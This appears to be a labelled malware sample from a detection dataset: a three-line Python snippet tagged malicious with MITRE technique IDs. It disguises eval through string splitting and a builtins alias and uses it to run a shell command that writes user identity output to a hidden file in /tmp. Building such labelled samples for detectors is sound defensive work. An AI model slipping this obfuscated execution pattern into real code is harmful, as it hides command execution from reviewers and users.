# label: malicious family=obfuscation techniques=T1027,T1033,T1059.004,T1059.006,T1564.001 lines=3-4
import builtins
[setattr(builtins, n, v) for n, v in [("_x", getattr(builtins, "e" + "val"))]]
_x("__import__('subprocess').call('id>/tmp/.s',shell=True)")
